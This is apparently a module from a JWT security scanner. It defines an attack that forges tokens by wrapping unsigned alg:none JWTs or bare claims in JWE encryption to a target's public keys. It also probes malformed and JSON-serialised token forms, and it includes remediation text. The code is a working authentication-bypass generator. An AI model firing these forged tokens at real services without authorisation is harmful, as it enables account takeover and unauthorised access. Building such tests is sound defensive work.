/** T11: an unsigned token inside an encrypted one, and forms beside the compact one (RFC 8725 section 3.3; CVE-2026-29000). */
import { importKey } from '@sealgate/jwt';
import type { EncryptionAlgorithm } from '@sealgate/jwt/jwe';
import { encryptJwe } from '@sealgate/jwt/jwe';
import type { Attack, Probe, Scene } from '../attack.ts';
import { encodePart } from '../forge.ts';
import type { PublishedKey } from '../given.ts';
import { bearer, tokenProbe, tryRequest } from '../probes.ts';

export const wrapped: Attack = {
  id: 'T11',
  title: 'unsigned content in an encrypted token; other forms',
  why: 'Anybody can encrypt to a public key: decrypting proves nothing about who wrote the claims.',
  mend: 'Accept exactly three parts of the base64url alphabet; where tokens are encrypted, demand a signature inside.',
  severity: 'critical',
  forges: true,
  probes: (scene) => {
    const { token, parts } = scene.subject;
    const flattened = { protected: parts[0], payload: parts[1], signature: parts[2] };
    return [
      tokenProbe('a fourth part behind the signature', `${token}.e30`),
      tokenProbe('a full stop behind the token', `${token}.`),
      tokenProbe('the JSON form in place of the compact one', JSON.stringify(flattened)),
      tokenProbe('the JSON form with a compact token in a member', JSON.stringify({ ...flattened, token })),
      ...scene.given.publicKeys.flatMap((published) => encrypted(scene, published)),
    ];
  },
};

function encrypted({ subject }: Scene, { key, kid }: PublishedKey): readonly Probe[] {
  const algorithms: readonly EncryptionAlgorithm[] =
    key.asymmetricKeyType === 'rsa'
      ? ['RSA-OAEP', 'RSA-OAEP-256']
      : key.asymmetricKeyType === 'ec'
        ? ['ECDH-ES', 'ECDH-ES+A256KW']
        : [];
  const payload = JSON.stringify(subject.claims);
  const contents = [
    ['the bare claims', payload],
    ['an unsigned JWT', `${encodePart({ alg: 'none' })}.${encodePart(payload)}.`],
  ] as const;
  const pem = key.export({ type: 'spki', format: 'pem' });
  return algorithms.flatMap((alg) =>
    contents.map(([name, content]) => ({
      name: `${alg} around ${name}`,
      async attempt(lab) {
        const options = { key: importKey(pem, { alg, ...(kid === undefined ? {} : { kid }) }), cty: 'JWT' };
        return tryRequest(lab, { target: lab.scene.target, headers: [bearer(await encryptJwe(content, options))] });
      },
    })),
  );
}
